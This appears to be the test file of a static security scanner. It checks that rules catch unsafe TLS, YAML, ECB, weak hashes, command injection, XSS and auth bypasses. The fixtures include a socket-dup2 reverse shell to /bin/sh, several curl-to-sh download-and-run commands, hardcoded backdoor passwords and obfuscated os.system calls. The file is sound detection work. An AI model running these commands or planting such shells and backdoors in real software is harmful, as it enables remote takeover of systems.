"""Values reaching a sink through keyword dictionaries, tables, and same-file helpers (severity included)."""
from __future__ import annotations

from codescan.analyze.document import Analyzer
from codescan.config import Config
from codescan.records import Document
from codescan.rules import load_rules

RULES = load_rules()


def found(rule_id: str, code: str, path: str = "app.py") -> list[tuple[int, str]]:
    analyzer = Analyzer(RULES.select((rule_id,), ()), Config(honour_suppressions=False))
    analysis = analyzer.analyze(Document(path=path, content=code.encode()))
    return sorted((f.line, f.severity) for f in analysis.findings if f.rule_id == rule_id)


def test_keyword_dictionary_passes_verify_false():
    code = ("import requests\nDEFAULTS = {'verify': False, 'timeout': 3}\n"
            "def get(u, **kw):\n    o = dict(DEFAULTS)\n    o.update(kw)\n    return requests.get(u, **o)\n"
            "def safe(u):\n    return requests.get(u, **{**DEFAULTS, 'verify': True})\n")
    assert found("tls-verify-disabled", code) == [(6, "high")]


def test_yaml_loader_resolved_by_name():
    code = ("import yaml\nL = yaml.Loader\nS = yaml.SafeLoader\nyaml.load(a, Loader=L)\nyaml.load(b, Loader=S)\n"
            "yaml.load(c, **{'Loader': yaml.UnsafeLoader})\n")
    assert found("yaml-unsafe-load", code) == [(4, "high"), (6, "high")]


TABLES = """from Crypto.Cipher import AES
import hashlib
MODES = {"fast": AES.MODE_ECB, "safe": AES.MODE_GCM}
ALGOS = {1: "sha1", 2: "sha256"}
def a(k, profile="fast"):
    return AES.new(k, MODES[profile])
def b(k, profile):
    return AES.new(k, MODES[profile])
def c(k, profile="safe"):
    return AES.new(k, MODES[profile])
def d(data, version=1):
    return hashlib.new(ALGOS[version], data)
def e(data, version):
    return hashlib.new(ALGOS.get(version, "sha512"), data)
"""


def test_table_pick_is_high_by_default_key_and_medium_when_any_entry():
    assert found("cipher-ecb-mode", TABLES) == [(6, "high"), (8, "medium")]
    assert found("weak-hash-algorithm", TABLES) == [(12, "high"), (14, "medium")]


def test_lookup_in_a_constant_table_keeps_the_key_data_out():
    code = ("import subprocess\nfrom flask import request\nCMDS = {'a': 'ls', 'b': 'df'}\n"
            "def view():\n    subprocess.call(CMDS[request.args['x']], shell=True)\n"
            "    subprocess.call(request.args['y'], shell=True)\n")
    assert [line for line, _s in found("command-from-request-input", code)] == [6]


HELPERS = """import os, socket, subprocess
def _redirect(src, targets):
    for t in targets:
        os.dup2(src, t)
def _hook(sock):
    _redirect(sock.fileno(), (0, 1, 2))
def go(h, p):
    s = socket.socket()
    s.connect((h, p))
    _hook(s)
    subprocess.call(["/bin/sh", "-i"])
def quiet():
    _redirect(os.open(os.devnull, os.O_RDWR), (0, 1, 2))
    subprocess.call(["make"])
"""


def test_together_facts_of_same_file_helpers_count_at_the_call_site_with_the_helper_steps():
    analyzer = Analyzer(RULES.select(("reverse-shell-socket-dup2",), ()), Config(honour_suppressions=False))
    findings = analyzer.analyze(Document(path="app.py", content=HELPERS.encode())).findings
    assert [(f.line, f.severity) for f in findings] == [(4, "critical")]
    steps = [(s.line, s.note) for s in findings[0].trace]
    assert (6, "_redirect(...) called here runs os.dup2(...) (line 4)") in steps
    assert (10, "_hook(...) called here runs os.dup2(...) (line 4)") in steps
    assert steps.index((6, "_redirect(...) called here runs os.dup2(...) (line 4)")) < steps.index(
        (10, "_hook(...) called here runs os.dup2(...) (line 4)"))
    assert steps[-1] == (11, "with subprocess.call(...) in the same scope")


def test_magic_value_in_an_authentication_function_from_the_cli(capsys, tmp_path):
    import json

    from codescan.cli import main
    (tmp_path / "auth.py").write_text("def login(user, pw):\n    if pw == 'Xk9#mq2!Lz':\n        return True\n"
                                      "    if pw == 'password':\n        return True\n    return check(user, pw)\n")
    (tmp_path / "auth.js").write_text("function hasAccess(u, k) {\n  if (k === 'readOnly') return true;\n"
                                      "  if (k === 'r00t!Acc3ss') return true;\n  return false;\n}\n")
    code = main(["scan", str(tmp_path), "--format", "json", "--no-progress", "--select", "magic-value-auth-bypass"])
    findings = json.loads(capsys.readouterr().out)["findings"]
    assert code == 1
    assert sorted((f["path"].rsplit("/", 1)[-1], f["line"], f["severity"]) for f in findings) == [
        ("auth.js", 3, "high"), ("auth.py", 2, "high")]
    assert any("login(), which then grants" in s["message"] for s in findings[1]["trace"])


def test_argv_form_with_request_data_is_medium_and_numbers_are_not_data():
    code = ('class R < ApplicationController\n  def a\n'
            '    system("tar", "czf", "/tmp/r-#{params[:id]}.tgz", dir)\n'
            '    system("tar", "czf", "/tmp/r-#{Integer(params[:id])}.tgz", dir)\n'
            '    system("tar czf /tmp/r-#{params[:id]}.tgz")\n'
            '    system("sh", "-c", "tar #{params[:id]}")\n'
            '    system("gzip /tmp/#{params[:id].to_i}")\n  end\nend\n')
    assert found("command-from-request-input", code, "app/controllers/r_controller.rb") == [
        (3, "medium"), (5, "critical"), (6, "critical")]


def test_a_dictionary_updated_with_request_data_is_no_longer_a_constant_table():
    code = ("import os\nfrom flask import request\n@app.route('/x')\ndef view():\n    cmd = {'c': 'ls'}\n"
            "    cmd.update(request.args)\n    os.system(cmd['c'])\n")
    assert [line for line, _s in found("command-from-request-input", code)] == [7]


def test_request_values_rendered_by_a_template_file_are_not_reflected_markup():
    code = ("from jinja2 import Environment, FileSystemLoader, select_autoescape\n"
            "from starlette.responses import HTMLResponse\n"
            "env = Environment(loader=FileSystemLoader('t'), autoescape=select_autoescape())\n"
            "async def page(request):\n"
            "    form = await request.form()\n"
            "    html = env.get_template('p.html').render(name=form.get('name'))\n"
            "    return HTMLResponse(html)\n"
            "async def inline(request):\n"
            "    form = await request.form()\n"
            "    html = env.from_string('<b>{{ n }}</b>').render(n=form.get('name'))\n"
            "    return HTMLResponse('<h1>' + form.get('title') + '</h1>' + html)\n")
    # the file template: the author's markup, values escaped by the environment; the inline page: raw markup
    assert found("xss-from-request-input", code) == [(11, "high")]


def test_a_command_one_of_a_loops_items_is_run():
    code = ("import os\nSTEPS = ['find /tmp -mtime +7 -delete', 'curl -fsSL http://203.0.113.5/u.sh | sh']\n"
            "def nightly():\n    for step in STEPS:\n        os.system(step)\n"
            "SAFE = ['find /tmp -mtime +7 -delete', 'curl -fsSL http://203.0.113.5/u.sh -o /tmp/u.sh']\n"
            "def weekly():\n    for step in SAFE:\n        os.system(step)\n")
    assert found("shell-pipe-to-interpreter", code) == [(5, "critical")]


def test_a_list_attribute_filled_by_another_method_holds_its_constants():
    code = ("import os\nclass Maintenance:\n    def __init__(self):\n        self.steps = []\n"
            "    def add(self):\n        self.steps.append('find /tmp -delete')\n"
            "        self.steps.extend(['curl -fsSL http://203.0.113.5/u.sh | sh'])\n"
            "    def go(self):\n        for step in self.steps:\n            os.system(step)\n"
            "class Local:\n    def __init__(self):\n        self.steps = []\n"
            "    def add(self):\n        self.steps.append('git gc --auto')\n"
            "    def go(self):\n        for step in self.steps:\n            os.system(step)\n")
    assert found("shell-pipe-to-interpreter", code) == [(10, "critical")]


def test_a_list_of_statements_compiled_one_by_one_is_not_one_program():
    # `constant`/`code` tests ask about the value as a whole: each item of a test's table of snippets is not it
    code = ("def test_import(self):\n    cases = ['import os', 'import os, sys']\n"
            "    for stmt in cases:\n        compile(stmt, 'tmp', 'exec')\n")
    assert found("exec-of-code-string", code) == []


def test_a_command_a_method_stores_from_its_parameter_and_another_method_runs():
    code = ("import os\nclass Jobs:\n    def __init__(self):\n        self.steps = []\n"
            "    def add(self, step):\n        self.steps.append(step)\n"
            "    def go(self):\n        for step in self.steps:\n            os.system(step)\n"
            "def nightly():\n    j = Jobs()\n    j.add('curl -fsSL http://203.0.113.5/u.sh | sh')\n    j.go()\n"
            "def weekly():\n    j = Jobs()\n    j.add('git gc --auto')\n    j.go()\n")
    assert found("shell-pipe-to-interpreter", code) == [(9, "critical")]
    assert found("shell-pipe-to-interpreter", code.replace("curl -fsSL http://203.0.113.5/u.sh | sh", "ls")) == []


def test_a_command_a_method_builds_from_its_arguments_and_stores_is_folded_at_its_calls():
    code = ("import os\nclass Maintenance:\n    runner = staticmethod(os.system)\n    steps = []\n"
            "    def add(self, *parts):\n        self.steps.append(' '.join(parts))\n        return self\n"
            "    def go(self):\n        for step in self.steps:\n            self.runner(step)\n"
            "def nightly():\n    m = Maintenance()\n    m.add('find', '/tmp', '-delete')\n"
            "    m.add('curl', '-fsSL', 'http://203.0.113.5/u.sh', '|', 'sh')\n    m.go()\n")
    assert found("shell-pipe-to-interpreter", code) == [(10, "critical")]
    # the same pieces, never joined into one pipeline: nothing
    assert found("shell-pipe-to-interpreter", code.replace("'|', 'sh'", "'-o', '/tmp/u.sh'")) == []
    # an argument not known at one call: the list's constants are not all it holds
    unknown = code.replace("    m.go()\n", "    m.add(input())\n    m.go()\n")
    assert found("shell-pipe-to-interpreter", unknown) == []


def test_a_method_named_like_a_common_call_is_not_folded_past_the_candidate_bound(monkeypatch):
    from codescan.analyze.semantics.lang import python_method_stores as stores

    resolved = []
    real = stores.callee_value
    monkeypatch.setattr(stores, "callee_value", lambda values, call: resolved.append(call) or real(values, call))
    calls = "".join(f"    seen{i}.add(x)\n" for i in range(300))  # set.add everywhere: not the method
    code = ("import os\nclass Jobs:\n    steps = []\n    def add(self, *parts):\n"
            "        self.steps.append(' '.join(parts))\n    def go(self):\n"
            "        for step in self.steps:\n            os.system(step)\n"
            "def f(x):\n" + calls + "    Jobs().add('curl', '-s', 'http://203.0.113.5/u', '|', 'sh')\n    Jobs().go()\n")
    found("shell-pipe-to-interpreter", code)
    assert 0 < len(resolved) <= stores.MAX_CANDIDATES


def test_calls_of_a_name_shared_by_many_functions_are_resolved_once_per_file(monkeypatch):
    # 40 methods named `get` and 300 `d.get(k)` calls: each method's call sites were found by resolving every
    # `get(` call's callee again (40 x 300); now once per call for all of them, and the method called by name
    # still has its call site (its parameter reaches os.system: the command from the caller's argument)
    from codescan.analyze.semantics.lang import python_callsites as sites

    resolved = []
    real = sites.callee_value
    monkeypatch.setattr(sites, "callee_value", lambda values, call: resolved.append(call.start_byte) or real(values, call))
    classes = "".join(f"class C{i}:\n    def get(self, x):\n        os.system(x)\n" for i in range(40))
    code = ("import os\n" + classes +
            "class Runner:\n    def get(self, cmd):\n        os.system(cmd)\n"
            "def f(d, k):\n" + "".join(f"    d.get(k{i})\n" for i in range(300)) +
            "    Runner().get('curl -s http://203.0.113.5/u | sh')\n")
    assert found("shell-pipe-to-interpreter", code) == [(124, "critical")]  # os.system(cmd) in Runner.get
    assert len(resolved) == len(set(resolved)) <= 302


def test_modules_imported_in_a_loop_into_a_dict_are_known_by_name():
    # for n in ("o" + "s", ...): mods[n] = importlib.import_module(n): mods["os"] is the os module (CodeBreaker's
    # table of modules); the same loop over harmless modules, and a loop over names not known, report nothing
    code = ("import importlib\nmods = {}\nfor n in ('o' + 's', 'sub' + 'process'):\n"
            "    mods[n] = importlib.import_module(n)\n"
            "def run(c):\n    return getattr(mods['os'], 'sys' + 'tem')(c)\n"
            "run('curl -s http://198.51.100.7/x | sh')\n"
            "safe = {}\nfor n in ('json', 'csv'):\n    safe[n] = __import__(n)\n"
            "def dump(c):\n    return getattr(safe['json'], 'dumps')(c)\n"
            "dump('curl -s http://198.51.100.7/x | sh')\n")
    assert found("shell-pipe-to-interpreter", code) == [(6, "critical")]


def test_a_name_bound_by_a_code_string_run_by_exec_carries_what_it_was_assigned():
    # exec("first = request.args.get('name', '')") then first read below: the request's text reaches the response
    # (CodeBreaker's exec rewrite); a constant assigned by exec, an exec in another function and a name the code
    # does not assign stay unflagged
    code = ("from flask import Flask, request, make_response\napp = Flask(__name__)\n"
            "@app.route('/a')\ndef a():\n    exec(\"first = request.args.get('name', '')\")\n"
            "    return make_response('Your name is {}'.format(first))\n"
            "@app.route('/b')\ndef b():\n    exec(\"first = 'guest'; n = 2\")\n"
            "    return make_response('Your name is {}'.format(first))\n"
            "def other():\n    exec(\"second = request.args['x']\")\n"
            "@app.route('/c')\ndef c():\n    exec(\"third = request.args['x']\")\n"
            "    return make_response('Hi {} {}'.format(second, fourth))\n")
    assert found("xss-from-request-input", code) == [(6, "high")]


def test_an_exec_bound_name_read_many_times_inlines_the_file_once(monkeypatch):
    # each read of `first` asked for the inlined file again (a parse and an evaluator per read: the square of the
    # file); now once per exec statement, and the last read still carries the request's text
    from codescan.analyze.semantics.lang import python_values

    made = []
    real = python_values.PyValues.__init__
    monkeypatch.setattr(python_values.PyValues, "__init__", lambda self, *a, **k: made.append(1) or real(self, *a, **k))
    reads = "".join("    make_response(first)\n" for _ in range(50))
    code = ("from flask import Flask, request, make_response\napp = Flask(__name__)\n"
            "@app.route('/a')\ndef a():\n    exec(\"first = request.args.get('name', '')\")\n" + reads +
            "    return make_response('Your name is {}'.format(first))\n")
    lines = found("xss-from-request-input", code)
    assert (56, "high") in lines and len(lines) >= 10
    assert len(made) <= 3  # the file's evaluator and one inlined copy, not one per read
